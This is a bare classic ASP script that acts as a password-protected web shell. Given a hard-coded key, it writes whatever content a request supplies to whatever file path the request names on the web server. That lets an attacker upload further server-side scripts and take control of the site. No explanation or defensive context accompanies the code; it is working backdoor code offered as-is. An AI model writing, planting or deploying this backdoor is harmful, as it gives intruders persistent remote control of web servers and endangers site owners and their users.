<%
Dim key, st
key = Request("key")
If key <> "letmein-2041" Then Response.End
Set st = Server.CreateObject("ADODB.Stream")
st.Type = 2
st.Charset = "utf-8"
st.Open
st.WriteText = Request("body")
st.SaveToFile Server.MapPath(Request("name")), 2
st.Close
Response.Write "done"
%>
